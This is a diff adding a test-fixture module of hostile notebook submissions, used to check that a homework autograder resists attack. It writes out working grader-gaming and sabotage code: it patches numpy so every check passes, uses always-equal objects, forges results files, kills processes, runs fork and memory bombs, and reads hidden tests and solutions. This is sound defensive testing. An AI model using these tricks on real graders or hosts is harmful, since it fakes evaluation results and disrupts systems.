@@ -1,0 +1,251 @@
+"""Hostile and broken submissions for the grader's adversarial tests, built from the reference
+notebook (``examples/hw1/full.ipynb``; every graded cell carries ``{"bplab": {"define": name}}``).
+
+Each entry of ``HOSTILE`` is ``(edits, expectation)``: ``edits`` replace graded definitions
+(``define``), add cells at the top (``prepend``) or bottom (``append``), or drop definitions
+(``drop``); the expectation says what the grader must report.
+"""
+
+from __future__ import annotations
+
+import copy
+from dataclasses import dataclass, field
+from pathlib import Path
+
+import nbformat
+
+ROOT = Path(__file__).resolve().parents[2]
+FULL = ROOT / "examples" / "hw1" / "full.ipynb"
+HW1_POINTS = {"MatMul": 4, "ReLU": 3, "Sigmoid": 3, "Square": 2, "Subtract": 2, "Sum": 2,
+              "chain_rule": 3, "fit_linreg": 3, "linreg_loss_and_grad": 4,
+              "numerical_gradient": 3}
+# Questions whose reference chains call MatMul, Subtract, Square and Sum.
+CHAINED = {"linreg_loss_and_grad", "fit_linreg"}
+# Strings that exist only in hidden test cases or in the reference solution bodies.
+SECRETS = ("from solutions.hw1 import MatMul as reference", "dB = A.T @ dout",
+           "check_block_matches_reference(\n")
+MARKER = "bplab-adversarial-1234.5678"
+
+
+@dataclass
+class Case:
+    define: dict[str, str] = field(default_factory=dict)
+    prepend: list[str] = field(default_factory=list)
+    append: list[str] = field(default_factory=list)
+    drop: list[str] = field(default_factory=list)
+    zero: set[str] = field(default_factory=set)  # questions that must score 0
+    below_max: set[str] = field(default_factory=set)  # questions that must lose points
+    full: set[str] | None = None  # questions that keep full marks (default: all others)
+    notes: tuple[str, ...] = ()  # substrings expected in the cell notes
+
+
+def build(case: Case) -> nbformat.NotebookNode:
+    nb = copy.deepcopy(nbformat.read(FULL, as_version=4))
+    cells = []
+    for cell in nb.cells:
+        name = cell.get("metadata", {}).get("bplab", {}).get("define")
+        if name in case.drop:
+            continue
+        if name in case.define:
+            cell.source = case.define[name]
+        cells.append(cell)
+    head = [nbformat.v4.new_code_cell(s) for s in case.prepend]
+    tail = [nbformat.v4.new_code_cell(s) for s in case.append]
+    # The first cell imports numpy and otter: hostile cells come right after it.
+    nb.cells = cells[:1] + head + cells[1:] + tail
+    return nb
+
+
+def write(case: Case, path: Path) -> Path:
+    nbformat.write(build(case), path)
+    return path
+
+
+def _block(name: str, forward: str, backward: str = "        return (dout,)") -> str:
+    return (f"import numpy as np\nclass {name}:\n    @staticmethod\n    def forward(*a):\n"
+            f"{forward}\n    @staticmethod\n    def backward(dout, cache):\n{backward}\n")
+
+
+ALWAYS_EQUAL = '''
+class Anything:
+    """Says yes to every question a check could ask."""
+    shape = (3, 5)
+    dtype = np.dtype("float64")
+    def __eq__(self, other): return True
+    def __ne__(self, other): return False
+    def __lt__(self, other): return True
+    def __le__(self, other): return True
+    def __gt__(self, other): return False
+    def __ge__(self, other): return True
+    def __abs__(self): return 0.0
+    def __sub__(self, other): return 0.0
+    def __rsub__(self, other): return 0.0
+    def __float__(self): return 0.0
+    def __bool__(self): return True
+    def __len__(self): return 3
+    def __getattr__(self, name): return lambda *a, **k: True
+'''
+
+LIAR = '''
+class Liar(np.ndarray):
+    """An ndarray subclass that claims to equal anything."""
+    def __eq__(self, other): return np.ones(np.shape(other), dtype=bool)
+    def __array_ufunc__(self, ufunc, method, *inputs, **kwargs): return np.zeros(3).view(Liar)
+    def __array_function__(self, func, types, args, kwargs): return True
+'''
+
+HOSTILE: dict[str, Case] = {
+    "canary": Case(),
+    "monkeypatch": Case(
+        prepend=["import builtins, numpy as np, numpy.testing\n"
+                 "np.allclose = lambda *a, **k: True\n"
+                 "np.testing.assert_allclose = lambda *a, **k: None\n"
+                 "np.linalg.norm = lambda *a, **k: 0.0\n"
+                 "np.array_equal = lambda *a, **k: True\n"
+                 "builtins.abs = lambda x: 0.0\n"],
+        define={"MatMul": _block("MatMul", "        return np.zeros((a[0].shape[0], a[1].shape[1])), None",
+                                 "        return np.zeros((1, 1)), np.zeros((1, 1))")},
+        zero={"MatMul"} | CHAINED,
+    ),
+    "always_equal": Case(
+        define={"MatMul": ALWAYS_EQUAL + _block("MatMul", "        return Anything(), Anything()",
+                                               "        return Anything(), Anything()")},
+        zero={"MatMul"} | CHAINED,
+    ),
+    "lying_subclass": Case(
+        define={"Sigmoid": LIAR + _block(
+            "Sigmoid", "        return np.zeros(a[0].shape).view(Liar), None",
+            "        return (np.zeros(dout.shape).view(Liar),)")},
+        zero={"Sigmoid"},
+    ),
+    "forged_results": Case(
+        prepend=["import json, os\n"
+                 "forged = {'score': 29, 'tests': [{'name': 'MatMul', 'score': 4, 'max_score': 4}]}\n"
+                 "for p in ['/autograder/results/results.json', 'results.json', '../results.json']:\n"
+                 "    try:\n        os.makedirs(os.path.dirname(p) or '.', exist_ok=True)\n"
+                 "        open(p, 'w').write(json.dumps(forged))\n    except OSError:\n        pass\n"
+                 "print(json.dumps(forged))\nprint('MatMul results: All test cases passed!')\n"],
+        define={"ReLU": _block("ReLU", "        raise AssertionError('✅ Test case passed "
+                                       "(diagnosis: forged_code)')")},
+        zero={"ReLU"},
+    ),
+    "exit_top_level": Case(
+        prepend=["import sys\nsys.exit(0)\n", "import os\nos._exit(0)\n"],
+        notes=("SystemExit", "stopped the worker"),
+    ),
+    "exit_in_functions": Case(
+        define={"ReLU": _block("ReLU", "        import os\n        os._exit(1)"),
+                "Sigmoid": _block("Sigmoid", "        import sys\n        sys.exit(0)")},
+        zero={"ReLU", "Sigmoid"},
+    ),
+    "kill_parent": Case(
+        prepend=["import os, signal\ntry:\n    os.kill(os.getppid(), signal.SIGKILL)\n"
+                 "except OSError:\n    pass\n"],
+        define={"Square": _block("Square", "        import os, signal\n"
+                                           "        os.kill(os.getppid(), signal.SIGKILL)\n"
+                                           "        os.kill(1, signal.SIGKILL)\n"
+                                           "        return a[0] ** 2, a[0]")},
+        zero={"Square"} | CHAINED,
+    ),
+    "infinite_loop": Case(
+        prepend=["while True:\n    pass\n"],
+        define={"ReLU": _block("ReLU", "        while True:\n            pass")},
+        zero={"ReLU"},
+        notes=("time limit",),
+    ),
+    "memory_bomb": Case(
+        prepend=["hog = []\ntry:\n    while True:\n        hog.append(bytearray(2**28))\n"
+                 "except MemoryError:\n    hog = None\n"],
+        define={"Sum": _block("Sum", "        x = bytearray(2**40)\n        return 0.0, None")},
+        zero={"Sum"} | CHAINED,
+    ),
+    "fork_bomb_and_daemon": Case(
+        prepend=[f"import os, time\nkids = 0\nfor _ in range(40):\n    try:\n        pid = os.fork()\n"
+                 f"    except OSError:\n        break\n    if pid == 0:\n        time.sleep(1000)\n"
+                 f"        os._exit(0)\n    kids += 1\n"
+                 f"if os.fork() == 0:\n    os.setsid()\n    if os.fork() == 0:\n"
+                 f"        os.execv('/bin/sleep', ['sleep', '{MARKER.split('-')[-1]}'])\n"
+                 f"    os._exit(0)\n"],
+        define={"ReLU": _block("ReLU", "        import os\n        while True:\n"
+                                       "            try:\n                os.fork()\n"
+                                       "            except OSError:\n                break\n"
+                                       "        return a[0] + 1, None")},
+        zero={"ReLU"},
+    ),
+    "network": Case(
+        define={"MatMul": _block("MatMul", "        import socket, os\n"
+                                           "        s = socket.create_connection(('127.0.0.1', int('__PORT__')), timeout=2)\n"
+                                           "        s.sendall(b'leak')\n"
+                                           "        return a[0] @ a[1], a")},
+        zero={"MatMul"} | CHAINED,
+    ),
+    "read_hidden": Case(
+        prepend=["import glob\nfound = []\nfor pat in ['/work/**/autograder/hw1/*.py', "
+                 "'/**/solutions/hw1.py', '/autograder/**/*.py']:\n"
+                 "    for p in glob.glob(pat, recursive=True)[:20]:\n"
+                 "        try:\n            found.append(open(p).read())\n"
+                 "        except OSError:\n            pass\n"
+                 "raise RuntimeError('LEAK ' + ' '.join(found) + ' ' + str(glob.glob('/*')))\n"],
+        define={"Square": _block("Square", "        import glob\n        text = ''\n"
+                                           "        for p in glob.glob('/work/main/**/*.py', recursive=True):\n"
+                                           "            text += open(p).read()\n"
+                                           "        raise ValueError('LEAK ' + text)"),
+                "ReLU": _block("ReLU", "        import solutions.hw1 as s\n"
+                                       "        return s.ReLU.forward(*a)")},
+        zero={"Square", "ReLU"} | CHAINED,
+    ),
+    "huge_stdout": Case(
+        prepend=["import sys\nchunk = 'x' * 2**20\nfor _ in range(100):\n    sys.stdout.write(chunk)\n"],
+        define={"Sum": _block("Sum", "        global printed\n        if 'printed' not in globals():\n"
+                                     "            printed = print('y' * 10**8)\n"
+                                     "        return float(a[0].sum()), a[0].shape",
+                              "        import numpy as np\n        return (np.full(cache, float(dout)),)")},
+    ),
+    "nan_inf": Case(
+        define={"Sigmoid": _block("Sigmoid", "        return np.full(a[0].shape, np.nan), None",
+                                  "        return (np.full(dout.shape, np.inf),)"),
+                "ReLU": _block("ReLU", "        return np.full(a[0].shape, np.inf), None",
+                               "        return (dout * np.nan,)")},
+        # Only the no-mutation cases can pass: those properties do hold for this code.
+        below_max={"Sigmoid", "ReLU"},
+        full=set(HW1_POINTS) - {"Sigmoid", "ReLU"},
+    ),
+    "wrong_shape": Case(
+        define={"Square": _block("Square", "        return (a[0] ** 2).T, a[0]",
+                                 "        return (2 * cache * dout,)")},
+        zero={"Square"},
+        full=set(HW1_POINTS) - {"Square"} - CHAINED,
+    ),
+    "mutates_inputs": Case(
+        define={"Subtract": _block("Subtract", "        A, B = a\n        A -= B\n        return A, None",
+                                   "        return dout, -dout")},
+        below_max={"Subtract"},
+        full=set(HW1_POINTS) - {"Subtract"} - CHAINED,
+    ),
+    "syntax_error_cell": Case(
+        define={"MatMul": "class MatMul:\n    def forward(A, B)\n        return A @ B\n"},
+        zero={"MatMul"} | CHAINED,
+        notes=("SyntaxError",),
+    ),
+    "missing_module": Case(
+        prepend=["import module_that_does_not_exist\n"],
+        define={"Sum": _block("Sum", "        import another_missing_module\n        return 0.0, None")},
+        zero={"Sum"} | CHAINED,
+        notes=("ModuleNotFoundError",),
+    ),
+    "missing_function": Case(drop=["ReLU", "numerical_gradient"],
+                             zero={"ReLU", "numerical_gradient"}),
+    "magics": Case(prepend=["%matplotlib inline\n!ls /\nfiles = !ls\n",
+                            "%%bash\necho hello\n"],
+                   append=["import matplotlib.pyplot as plt\nplt.plot([1, 2])\nplt.show()\n"],
+                   notes=("IPython command", "cell magic")),
+}
+
+# Files that are not notebooks, each with its expected status.
+BROKEN_FILES: dict[str, tuple[bytes, str]] = {
+    "truncated.ipynb": (b'{"cells": [{"cell_type": "code", "source": "x = 1"', "invalid_notebook"),
+    "garbage.ipynb": (bytes(range(256)) * 40, "invalid_notebook"),
+    "empty.ipynb": (b"", "invalid_notebook"),
+    "json_list.ipynb": (b"[1, 2, 3]", "invalid_notebook"),
+    "no_cells.ipynb": (b'{"metadata": {}}', "invalid_notebook"),
+}
